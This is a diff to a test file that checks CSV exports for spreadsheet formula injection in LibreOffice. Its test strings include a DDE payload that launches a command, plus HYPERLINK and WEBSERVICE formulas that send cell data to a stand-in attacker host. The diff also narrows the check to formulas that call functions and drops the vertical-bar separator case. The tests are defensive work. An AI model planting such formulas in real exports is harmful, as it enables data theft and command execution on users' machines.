@@ -17,6 +17,21 @@ const HOSTILE_TEXTS = [
   ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1"', '""=1+1""', "'=1+1"],
   ...['a,=1+1', 'a;=1+1;b', 'a\t=1+1\tb', 'a|=1+1', 'a; =1+1;b', 'a;"=1+1";b', 'a";=1+1;"b'],
   ...['a;＝1+1', 'a;+1+1', 'a;-1-1', 'a;@SUM(1)', 'a\n=1+1', 'a\r\n=1+1,b\r\nc', 'a\r=1+1'],
+  ...[
+    'a,=SUM(1)',
+    'a;=SUM(1);b',
+    'a\t=SUM(1)\tb',
+    'a; =SUM(1);b',
+    'a;"=SUM(1)";b',
+    'a";=SUM(1);"b',
+  ],
+  ...[
+    'a;=1+SUM (A1);b',
+    'a\n=SUM(1)',
+    'a\r\n=SUM(1),b\r\nc',
+    "a;=cmd|'/C calc'!A0;b",
+    'a;=sum(1);',
+  ],
   '=HYPERLINK("http://evil.example/?q="&A1,"Total")',
   'a\n=WEBSERVICE("http://evil.example"),b',
 ];
@@ -79,8 +94,13 @@ function readCell(cell: Element): Cell {
   };
 }
 
-function findUnsafe(rows: Cell[][]): Cell[] {
+function findOtherThanText(rows: Cell[][]): Cell[] {
   return rows.flat().filter(({ type, formula }) => type !== 'string' || formula !== null);
+}
+
+/** Calculations with numbers alone are harmless. */
+function findUnsafe(rows: Cell[][]): Cell[] {
+  return rows.flat().filter(({ formula }) => formula !== null && /[a-z]\s*\(|\|/i.test(formula));
 }
 
 it('opens in LibreOffice as text only', () => {
@@ -95,16 +115,15 @@ it('opens in LibreOffice as text only', () => {
       cells.filter((cell) => cell !== '').map((cell) => cell.replace(/\r\n?/g, '\n')),
     ),
   );
-  expect(findUnsafe(rows)).toEqual([]);
+  expect(findOtherThanText(rows)).toEqual([]);
 });
 
 it.each([
   ['detected separators', undefined],
   ['semicolons', '59'],
   ['tabs', '9'],
-  ['vertical bars', '124'],
   ['commas, semicolons and tabs', '44/59/9'],
-])('contains no formulas for LibreOffice with %s', (_name, separators) => {
+])('contains no formulas that call anything for LibreOffice with %s', (_name, separators) => {
   const rows = open(formatTasksCsv(TASKS, USERNAMES), separators);
 
   expect(rows.length).toBeGreaterThan(TASKS.length);
@@ -112,8 +131,9 @@ it.each([
 });
 
 it('the check detects formulas', () => {
-  expect(findUnsafe(open('A,B\r\n"a;b",=1+1\r\n'))).toMatchObject([
+  expect(findOtherThanText(open('A,B\r\n"a;b",=1+1\r\n'))).toMatchObject([
     { type: 'float', formula: 'of:=1+1', text: '2' },
   ]);
-  expect(findUnsafe(open('A,B\r\na,"b;=1+1;c"\r\n', '59'))).toHaveLength(1);
+  expect(findUnsafe(open('A,B\r\na,"b;=SUM(1);=1+1"\r\n', '59'))).toHaveLength(1);
+  expect(findUnsafe(open("A,B\r\na,b;=cmd|'x'!A0;c\r\n", '59'))).toHaveLength(1);
 });
